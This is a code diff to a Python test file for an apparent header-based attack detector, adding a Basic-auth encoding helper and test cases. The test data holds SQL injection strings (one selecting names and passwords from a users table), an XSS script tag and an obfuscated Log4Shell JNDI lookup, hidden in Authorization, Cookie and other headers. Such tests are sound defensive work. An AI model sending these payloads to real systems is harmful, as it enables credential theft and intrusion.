@@ -133,6 +133,10 @@ def test_ordinary_names_pass(key: str) -> None:
     assert detect([(key, "1")]) == {}
 
 
+def _basic(credentials: str) -> str:
+    return "Basic " + base64.b64encode(credentials.encode()).decode()
+
+
 @pytest.mark.parametrize(("name", "value"), HEADERS)
 def test_ordinary_headers_pass(name: str, value: str) -> None:
     """Headers are full of signs; what browsers and proxies send is no attack."""
@@ -149,6 +153,9 @@ def test_ordinary_headers_pass(name: str, value: str) -> None:
         ("X-Forwarded-For", "1.2.3.4' and sleep(5)--", "SQLI"),
         ("Cookie", "a=1; id=1' union select 1,2--; b=2", "SQLI"),
         ("X-Api-Version", "${${lower:j}ndi:rmi://x.example/a}", "LOG4SHELL"),
+        ("Authorization", _basic("1' union select name, password from users--:x"), "SQLI"),
+        ("Authorization", _basic("alice:<script>alert(1)</script>").replace("Basic", "basic "), "XSS"),
+        ("Proxy-Authorization", _basic("' or sleep(5)#:"), "SQLI"),
     ],
 )
 def test_attacks_in_headers(name: str, value: str, category: str) -> None:
